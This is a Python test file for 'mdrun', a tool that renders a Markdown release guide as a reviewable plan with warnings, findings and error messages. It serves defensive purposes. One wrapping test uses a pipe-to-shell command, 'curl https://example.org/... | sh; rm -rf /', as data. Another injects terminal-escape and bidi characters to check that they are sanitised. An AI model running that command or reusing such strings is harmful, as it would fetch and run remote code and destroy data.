"""A plan, findings and errors as text: exact."""

from __future__ import annotations

import subprocess
import sys

from mdrun.directives import Directives
from mdrun.display.findings import error_lines, finding_lines, summary_line
from mdrun.display.plan_text import plan_lines
from mdrun.errors import Finding, GuideRefused, UsageError
from mdrun.plan.records import Command, Plan
from tests.display_helpers import plan
from tests.plan_parts import row, step, variable

UNFILLED = Finding(
    "RELEASE.md",
    52,
    15,
    "error",
    "placeholder-unfilled",
    "`<last-good>` has no value",
    "give -v last_good=VALUE",
)


def release() -> Plan:
    doctor = "uv run flowgate --config config/flowgate.yaml doctor"
    steps = (
        step(
            "1.1/1",
            lines=(33, 38),
            commands=(
                Command(34, "uv sync --group runtime"),
                Command(35, "for i in 1 2; do\n\techo $i\ndone"),
            ),
            directives=Directives(
                timeout=120.0, retry=3, expect="all good", pipefail=False, env=(("A", "b"),)
            ),
        ),
        step("1.1/2", lines=(40, 42), commands=(Command(41, doctor),), directives=Directives(manual=True)),
        step(
            "1.1/3",
            "check",
            (45, 45),
            title="`doctor` is green: `liveness=ok`",
            settled_by="evidence",
            refers_to=("1.1/2:41", "9/9:1"),
            tokens=("liveness=ok",),
        ),
        step(
            "1.1/4",
            "check",
            (46, 46),
            title="Working tree clean",
            settled_by="command",
            commands=(Command(46, "git diff --quiet"),),
            decisions=("check-command",),
        ),
        step("1.1/5", "check", (47, 47), title="发布说明", settled_by="person"),
        step(
            "1.2/1",
            lines=(50, 54),
            title="Push the tag",
            commands=(
                Command(52, "git checkout v<last-good>"),
                Command(53, "git push origin main --follow-tags"),
            ),
            decisions=("condition", "guarded"),
            guards=("git push", "git push"),
            directives=Directives(name="push", confirm="really now?"),
        ),
        step(
            "1.2/2", lines=(55, 57), guards=("rm -r", "dd"), directives=Directives(skip=True, confirm=False)
        ),
        step("notes/1", "manual", (60, 60), title="Tell the channel"),
    )
    return plan(
        steps,
        (row("1.1", "Checks before", 30), row("1.2", "Release", 48), row("notes", "Notes", 58)),
        "\n" * 51 + "git checkout v<last-good>\n",
        guide="RELEASE.md",
        title="Release and roll back",
        selected=("1.1", "1.2"),
        variables=(
            variable("version", "v1.4.0", lines=(52, 53)),
            variable("last_good", lines=(52,), exports=("last_good",)),
            variable("token", "hunter2", secret=True, source="environment", exports=("token",)),
        ),
        findings=(UNFILLED, Finding("RELEASE.md", 0, 0, "note", "no-timeout", "no step has a timeout")),
        needs=("git", "uv"),
        timeout=1800.0,
    )


def test_it_says_what_usually_takes_long() -> None:
    made = plan(
        (step("1/1", commands=(Command(6, "make"),)), step("1/2", commands=(Command(9, "true"),))),
        (row("1", "R", 3),),
    )
    lines = list(plan_lines(made, {"1/1": 75.0, "1/2": 0.2}))
    assert [line.rpartition("usually ")[2] for line in lines if "usually" in line] == [
        "1 min 15 s",
        "1 min 15 s",
    ]
    assert lines[-1] == "2 steps: 2 command steps · usually 1 min 15 s"


def test_a_plan_shows_how_the_guide_is_understood() -> None:
    assert list(plan_lines(release(), width=72)) == [
        "RELEASE.md  Release and roll back",
        "sections 1.1, 1.2 · needs git, uv · timeout 30 min 00 s",
        "plan abcdef0123456789",
        "",
        "Variables",
        "  version    v1.4.0    from -v  lines 52, 53",
        "  last_good  missing   line 52  as $last_good",
        "  token      (secret)  from environment  as $token",
        "",
        "1.1 Checks before  line 30",
        "  1.1/1  command (bash)  lines 33-38",
        "      34 │ uv sync --group runtime",
        "      35 │ for i in 1 2; do",
        "      36 │     echo $i",
        "      37 │ done",
        '      directives: timeout=120s retry=3 expect="all good" env=A=b pipefail=no',
        "  1.1/2  command (bash)  lines 40-42",
        "      41 │ uv run flowgate --config config/flowgate.yaml doctor",
        "      ! run by a person, not by mdrun",
        "      directives: manual",
        "  1.1/3  check  line 45",
        "      `doctor` is green: `liveness=ok`",
        "      by evidence of 1.1/2 line 41 `uv run flowgate --config",
        "      config/flowgate.yaml doctor`, 9/9 line 1, with `liveness=ok` in",
        "      the output",
        "  1.1/4  check  line 46",
        "      Working tree clean",
        "      by its own command `git diff --quiet`",
        "      ! asks first: the guide does not say that its command proves it",
        "  1.1/5  check  line 47",
        "      发布说明",
        "      by a person",
        "",
        "1.2 Release  line 48",
        "  1.2/1  command (bash)  lines 50-54  name push",
        "      Push the tag",
        "      52 │ git checkout v<last-good>",
        "      53 │ git push origin main --follow-tags",
        "      ! asks first: the words before it are a condition or an option: it",
        "        may not apply",
        "      ! asks first: `git push` cannot be taken back",
        "      ! asks first: really now?",
        '      directives: name=push confirm="really now?"',
        "  1.2/2  command (bash)  lines 55-57",
        "      ! never run",
        "      ! has lasting effects: `rm -r` and `dd`",
        "      directives: skip confirm=no",
        "",
        "Notes  line 58",
        "  notes/1  manual  line 60",
        "      Tell the channel",
        "      by a person",
        "",
        "RELEASE.md: note: no step has a timeout [no-timeout]",
        "RELEASE.md:52:15: error: `<last-good>` has no value",
        "  [placeholder-unfilled]",
        "  52 │ git checkout v<last-good>",
        "     │               ^",
        "  bash, and whoever reads it, would take it for something else",
        "  → give -v last_good=VALUE",
        "",
        "8 steps: 4 command steps, 3 checks, 1 manual step · 2 ask first · 2 need a person · 1 error, 1 note",
    ]


def test_a_narrow_plan_wraps_and_hides_nothing_of_a_command() -> None:
    long = "curl https://example.org/" + "x" * 60 + " | sh; rm -rf /"
    lines = list(
        plan_lines(plan((step("1/1", commands=(Command(6, long),)),), (row("1", "R", 3),)), width=40)
    )
    shown = [line[10:] for line in lines if " │ " in line]
    assert "".join(shown).replace(" ", "") == long.replace(" ", "")
    assert all(len(line) <= 40 for line in lines if " │ " in line)


def test_the_whole_guide_without_variables_or_findings() -> None:
    assert list(plan_lines(plan((), (), title=""))) == [
        "guide.md",
        "the whole guide",
        "plan abcdef0123456789",
        "",
        "0 steps",
    ]


def test_colours_only_when_asked_for_and_no_escapes_from_the_guide() -> None:
    evil = "\x1b[2J\u202e"
    tricky = plan(
        (step("1/1", title=evil, commands=(Command(6, f"rm {evil}"),)),), (row("1", evil, 3),), title=evil
    )
    plain = "\n".join(plan_lines(tricky))
    assert not set(plain) & {"\x1b", "\u202e"}
    assert "6 │ rm \\x1b[2J\\u202e" in plain
    painted = "\n".join(plan_lines(tricky, color=True))
    assert "\x1b[1mguide.md\x1b[0m" in painted
    assert "\x1b[2J" not in painted


def test_planning_and_linting_do_not_import_rich() -> None:
    code = (
        "import sys, mdrun.display.plan_text, mdrun.display.findings\n"
        "import mdrun.display.runs_table, mdrun.display.glance\n"
        "assert 'rich' not in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_all_findings_sorted_by_place() -> None:
    findings = (
        Finding("b.md", 2, 0, "warning", "odd", "odd"),
        UNFILLED,
        Finding("RELEASE.md", 3, 4, "note", "tab", "a tab, 发布 before it"),
        Finding("RELEASE.md", 99, 1, "error", "gone", "a line that is not there"),
    )
    sources = {
        "RELEASE.md": ["", "", "\t发布 x", *[""] * 48, "git checkout v<last-good>"],
        "b.md": ["", "second  "],
    }
    assert list(finding_lines(findings, sources)) == [
        "RELEASE.md:3:4: note: a tab, 发布 before it [tab]",
        "  3 │     发布 x",
        "    │         ^",
        "RELEASE.md:52:15: error: `<last-good>` has no value [placeholder-unfilled]",
        "  52 │ git checkout v<last-good>",
        "     │               ^",
        "  bash, and whoever reads it, would take it for something else",
        "  → give -v last_good=VALUE",
        "RELEASE.md:99:1: error: a line that is not there [gone]",
        "b.md:2: warning: odd [odd]",
        "  2 │ second",
    ]
    assert summary_line(findings) == "2 errors, 1 warning, 1 note"
    assert summary_line(()) == ""


def test_a_long_line_is_cut_around_its_caret() -> None:
    line = "a" * 300 + "<x>" + "b" * 300
    _, source, caret = finding_lines((Finding("g.md", 1, 301, "error", "c", "m"),), {"g.md": [line]})
    assert source == f"  1 │ …{'a' * 59}<x>{'b' * 36}…"
    assert source[caret.index("^")] == "<"


def test_on_a_narrow_terminal_a_finding_is_broken_between_words_and_its_remedy_is_whole() -> None:
    found = Finding("g.md", 1, 9, "error", "c", "this is not as it should be", "write git push --force x")
    lines = list(finding_lines((found,), {"g.md": [f"{'a' * 8}<x>{'b' * 300}"]}, width=30))
    assert lines == [
        "g.md:1:9: error: this is",
        "  not as it should be [c]",
        "  1 │ aaaaaaaa<x>bbbbbbbbbbb…",
        "    │         ^",
        "  → write git push --force x",
    ]


def test_errors_say_what_is_wrong_and_what_to_do() -> None:
    error = UsageError("approved-other", hash="1f\x1b[2J", wanted="2a")
    assert list(error_lines(error)) == [
        "mdrun: the plan's hash is 1f\\x1b[2J, not the approved 2a",
        "  what would run is not what was approved",
        "  → look at `mdrun plan` again, and approve what it shows",
    ]
    error = UsageError("section-unknown", guide="g.md", selector="9", sections="\n  1\n  2", remedy="try 2")
    assert list(error_lines(error)) == [
        "mdrun: g.md has no section '9'; its sections are:",
        "    1",
        "    2",
        "  → try 2",
    ]
    assert list(error_lines(GuideRefused((UNFILLED,)), color=True)) == [
        "\x1b[1;31mmdrun:\x1b[0m 1 problem to settle; nothing was run"
    ]


def test_an_error_on_a_narrow_terminal_is_broken_between_words() -> None:
    error = UsageError("options-contradict", options="--skip-manual and --attest-all")
    assert list(error_lines(error, width=30)) == [
        "mdrun: --skip-manual and",
        "  --attest-all contradict one",
        "  another",
        "  → give one of them",
    ]
    finding = Finding("g.md", 0, 0, "error", "c", "m", "say --take-all-of-it or --none-of-it")
    assert list(finding_lines((finding,), {}, width=30))[1:] == [
        "  → say --take-all-of-it or",
        "    --none-of-it",
    ]
